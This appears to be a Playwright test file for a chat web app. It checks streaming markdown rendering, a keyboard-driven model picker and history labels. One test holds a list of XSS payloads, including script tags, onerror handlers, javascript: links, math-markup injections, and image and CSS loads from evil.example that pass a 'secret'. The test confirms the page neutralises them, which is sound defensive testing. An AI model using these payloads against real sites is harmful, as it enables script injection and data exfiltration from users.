"""Answers on the page while they are written, in a real Chromium: a worker that writes what it is
asked to, behind the real web process.
"""

import json
import re

import pytest

from chat.conversations.frames import LiveAnswer, View
from tests.browser.test_loop import CHROMIUM, PATIENCE, answers, browser, expect, finished, say
from tests.support.web_process import Web

__all__ = ["browser"]  # its fixture

pytestmark = [
    pytest.mark.browser,
    pytest.mark.xdist_group("answers"),
    pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine"),
]

MODELS = """
from chat.models import Adapter, Checkpoint
base = Checkpoint.objects.get()
Checkpoint.objects.create(name="another", path="/elsewhere", fingerprint="e" * 64)
for number in range(50):
    Adapter.objects.create(
        name=f"tuned-{number:02}", checkpoint=base, folder="x", sha256=f"{number:064}",
        pre_seq_len=8, with_history=number % 2 == 0,
    )
"""


@pytest.fixture(scope="module")
def web():
    with Web(pages=True) as running:
        running.manage("shell", "-v", "0", "-c", MODELS)
        yield running


@pytest.fixture
def page(web, browser):
    """A member's page; the test fails when a script does, when something is loaded from elsewhere
    or when the page's policy had to stop something.
    """
    context = browser.new_context(base_url=web.url, locale="zh-CN")
    context.add_cookies([{"name": "sessionid", "value": web.cookie, "url": web.url}])
    page = context.new_page()
    faults = []
    page.on("pageerror", lambda error: faults.append(str(error)))
    page.on("console", lambda entry: faults.append(entry.text) if entry.type == "error" else None)
    page.on("dialog", lambda dialog: faults.append(dialog.message) or dialog.dismiss())
    page.on(
        "request",
        lambda request: None if request.url.startswith(web.url) else faults.append(request.url),
    )
    page.goto("/chat/")
    yield page
    context.close()
    assert faults == []


class Writer:
    """In the place of the page's websocket: the frames of an answer, as the server makes them, one
    step at a time.
    """

    def __init__(self, page, message: int):
        self.page, self.sockets = page, []
        self.answer = LiveAnswer(message, "sequence")
        self.attach()

    def attach(self):
        self.view, self.after = View(), 0

    def connect(self):
        def serve(socket):
            self.sockets.append(socket)

        self.page.route_web_socket(re.compile("/ws/conversations/"), serve)
        self.page.reload()
        while not self.sockets:
            self.page.evaluate("1")

    def write(self, text: str):
        self.answer.status = "streaming"
        self.answer.content += text
        self.answer.rendered.grow(self.answer.content)
        self.send()

    def end(self):
        self.answer.status, self.answer.finish_reason = "complete", "stop"
        self.answer.render()
        self.answer.ended = True
        self.send()
        self.send()

    def send(self):
        for frame in self.answer.frames(self.after, self.view):
            self.after = frame["seq"]
            self.sockets[-1].send(json.dumps(frame, ensure_ascii=False))


def test_blocks_are_rendered_as_they_end_and_stay_where_they_are(page):
    say(page, "words 1")
    page.wait_for_url(re.compile(r"/chat/\d+/"))
    writer = Writer(page, int(finished(page, 1).get_attribute("data-message")) + 1)
    writer.connect()
    writer.write("# 标题\n\n**注意：**请")
    answer = answers(page).nth(1)
    plain, heading = answer.locator(".plain"), answer.locator("h1")
    expect(heading).to_have_text("标题")
    heading.evaluate("node => { node.kept = true; }")
    expect(plain).to_have_text("**注意：**请")  # open: as it is written
    writer.write("登录。\n\n1. 一\n2. **二**")
    expect(answer.locator("strong")).to_have_text("注意：")
    expect(answer.locator("li")).to_have_text(["一"])
    expect(plain).to_have_text("2. **二**")
    writer.write("\n\n```python\nprint('<b>")
    expect(answer.locator("li")).to_have_text(["一", "二"])
    expect(answer.locator("pre code")).to_have_text("print('<b>")
    expect(plain).to_be_hidden()
    writer.write("')\nx")
    expect(answer.locator("pre code")).to_have_text("print('<b>')\nx")
    writer.write(" = 1\n```\n| 甲 |\n|---|\n| \\(x^2\\) |\n\n完")
    expect(answer.locator(".hljs-string")).to_have_text("'<b>'")
    expect(answer.locator("td math")).to_be_visible()
    expect(plain).to_have_text("完")
    writer.end()
    finished(page, 2)
    expect(answer.locator("p:not(.plain)").last).to_have_text("完")
    expect(plain).to_be_hidden()
    # nothing that has been rendered was rendered again
    assert heading.evaluate("node => node.kept") is True
    for tag in ("h1", "ol", "pre", "table"):
        expect(answer.locator(tag)).to_have_count(1)
    # whoever connects again gets it from the beginning, in place of what there was
    writer.attach()
    writer.send()
    expect(heading).not_to_have_js_property("kept", True)
    expect(heading).to_have_count(1)


HOSTILE = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "![x](https://evil.example/?q=secret)",
    "[x](javascript:alert(1))",
    "```html\n</code></pre><script>alert(1)</script>\n```",
    r"\(\href{javascript:alert(1)}{x}\)",
    r"\[\text{</mtext><script>alert(1)</script><img src=x onerror=alert(1)>}\]",
    r"$\style{background:url(https://evil.example/)}{x}$",
    "|<img src=https://evil.example/y onerror=alert(1)>|\n|-|\n|1|",
    "<style>@import 'https://evil.example/z'</style>",
]


def test_nothing_that_a_model_writes_runs_or_loads(page):
    """The fixture looks for dialogs, errors and requests."""
    say(page, "write " + "\n\n".join(HOSTILE))
    page.wait_for_url(re.compile(r"/chat/\d+/"))
    answer = finished(page, 1)
    for _ in range(2):
        assert "alert(1)" in answer.inner_text()
        assert answer.locator("[data-part=text] :is(img, script, style, iframe)").count() == 0
        assert answer.locator("a[href^=javascript], [style]").count() == 0
        page.reload()


def test_a_model_is_found_among_fifty_with_the_keyboard_alone(page):
    expect(page.locator(".chat-head .chips .chip")).to_have_count(3)
    summary = page.locator("#picker summary")
    summary.focus()
    page.keyboard.press("Enter")
    search = page.locator("#picker [type=search]")
    expect(search).to_be_focused()
    expect(page.locator("#picker legend").nth(0)).to_contain_text("pretend")
    expect(page.locator("#picker legend").nth(1)).to_contain_text(re.compile("未加载"))
    page.keyboard.type("tuned-1")
    expect(page.locator("#picker [data-model]:visible")).to_have_count(10)
    page.keyboard.press("ArrowDown")
    page.keyboard.press("ArrowDown")
    page.keyboard.press("Enter")
    expect(page.locator("#picker")).not_to_have_attribute("open", "")
    expect(page.locator("#say")).to_be_focused()
    chosen = page.locator(".chat-head .chip:has(:checked)")
    expect(chosen).to_have_text(re.compile("tuned-18"))
    page.keyboard.type("words 2")
    page.keyboard.press("Enter")
    page.wait_for_url(re.compile(r"/chat/\d+/"))
    expect(answers(page).locator(".who")).to_contain_text("tuned-18", timeout=PATIENCE)


def test_the_page_says_what_the_model_is_shown(page):
    for name, told in (("tuned-46", "带上"), ("tuned-47", "不带")):
        page.locator("#picker summary").click()
        page.locator("#picker [type=search]").fill(name)
        page.keyboard.press("Enter")
        expect(page.locator("#history option:checked")).to_contain_text(told)
